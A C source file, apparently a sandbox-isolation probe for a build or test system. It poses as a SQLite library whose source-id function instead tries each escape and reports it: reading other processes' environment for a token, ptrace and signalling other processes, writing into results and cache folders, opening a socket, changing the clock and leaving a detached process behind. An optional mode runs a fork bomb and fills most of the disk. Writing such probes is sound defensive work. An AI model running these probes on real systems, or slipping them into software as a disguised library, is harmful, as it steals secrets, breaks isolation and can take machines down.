/*
** Tries to reach what no engine and no build should: a library beside the real SQLite, whose source id says what worked, or with
** PROGRAM a program that prints it. `name+` worked, `name-` was refused. WITH_DAMAGE also tries what would hurt a machine that
** does not refuse it.
*/
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <unistd.h>

static char outcomes[500];

static void tell(const char *name, int worked) {
  const size_t length = strlen(outcomes);
  snprintf(outcomes + length, sizeof outcomes - length, "%s%s%c", length ? " " : "", name, worked ? '+' : '-');
}

static int contains(const char *path, const char *text) {
  static char bytes[1 << 20];
  FILE *file = fopen(path, "r");
  const size_t size = file ? fread(bytes, 1, sizeof bytes, file) : 0;
  if (file) fclose(file);
  return memmem(bytes, size, text, strlen(text)) != NULL;
}

/* Whether something works with any process but this one. */
static int tryProcesses(int (*works)(pid_t)) {
  int found = 0;
  DIR *processes = opendir("/proc");
  for (struct dirent *one; processes && (one = readdir(processes));) {
    const pid_t process = atoi(one->d_name);
    if (process > 0 && process != getpid()) found |= works(process);
  }
  if (processes) closedir(processes);
  return found;
}

static int readsToken(pid_t process) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/environ", process);
  return contains(path, TOKEN);
}

/* A build has started its own shell and `make`, which it may reach: it tries VICTIM, a process of the job. */
static int reachesBySignal(pid_t process) {
#ifdef PROGRAM
  process = VICTIM;
#endif
  return kill(process, 0) == 0;
}

static pid_t traced(void) {
#ifdef PROGRAM
  return VICTIM;
#else
  return getppid();
#endif
}

/* Without changing it. */
static int opens(const char *path) {
  const int file = open(path, O_WRONLY | O_APPEND);
  if (file >= 0) close(file);
  return file >= 0;
}

static int plants(const char *folder) {
  char path[4096];
  snprintf(path, sizeof path, "%s/planted", folder);
  const int file = open(path, O_WRONLY | O_CREAT, 0600);
  if (file >= 0) close(file);
  return file >= 0;
}

static int connects(void) {
  struct sockaddr_in place = { .sin_family = AF_INET, .sin_port = htons(PORT), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
  const int any = socket(AF_INET, SOCK_STREAM, 0);
  const int worked = connect(any, (struct sockaddr *)&place, sizeof place) == 0;
  close(any);
  return worked;
}

/* A process of another session, whose parent has ended. */
static void leaveProcess(void) {
  if (fork() != 0) {
    wait(NULL);
    return;
  }
  setsid();
  if (fork() != 0) _exit(0);
  for (int file = 0; file < 100; file++) close(file);
  execl("/bin/sleep", "sleep", STAYS, (char *)NULL);
  _exit(1);
}

/* Moves the clock by nothing, for which it takes the same right. */
static int setsClock(void) {
  struct timex change = { .modes = ADJ_SETOFFSET };
  return adjtimex(&change) >= 0;
}

#ifdef WITH_DAMAGE
static int bombs(void) {
  enum { MANY = 3000 };
  static pid_t children[MANY];
  int count = 0;
  while (count < MANY && (children[count] = fork()) >= 0)
    if (children[count] > 0) count++;
    else for (;;) pause();
  for (int i = 0; i < count; i++) kill(children[i], SIGKILL);
  for (int i = 0; i < count; i++) waitpid(children[i], NULL, 0);
  return count == MANY;
}

static int fillsDisk(void) {
  const char *folder = getenv("TMPDIR");
  char path[4096];
  struct statvfs disk;
  snprintf(path, sizeof path, "%s/filler", folder ? folder : ".");
  const int file = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (file < 0 || fstatvfs(file, &disk) != 0) return 0;
  signal(SIGXFSZ, SIG_IGN);
  const int worked = posix_fallocate(file, 0, (off_t)(disk.f_bavail * disk.f_frsize / 10 * 7)) == 0;
  unlink(path);
  close(file);
  return worked;
}
#endif

static const char *attack(void) {
  if (*outcomes) return outcomes;
  tell("environ", tryProcesses(readsToken));
  tell("ptrace", ptrace(PTRACE_SEIZE, traced(), 0, 0) == 0);
  tell("kill", tryProcesses(reachesBySignal));
  tell("environment-file", opens(ENVIRONMENT_FILE));
  tell("results", plants(RESULTS));
  tell("cache", plants(CACHE));
  tell("other-engine", opens(OTHER_ENGINE));
  tell("socket", connects());
  tell("clock", setsClock());
#ifdef WITH_DAMAGE
  tell("fork-bomb", bombs());
  tell("disk", fillsDisk());
#endif
  leaveProcess();
  return outcomes;
}

#ifdef PROGRAM
int main(void) {
  puts(attack());
  return 0;
}
#else
const char *sqlite3_sourceid(void) { return attack(); }
#endif
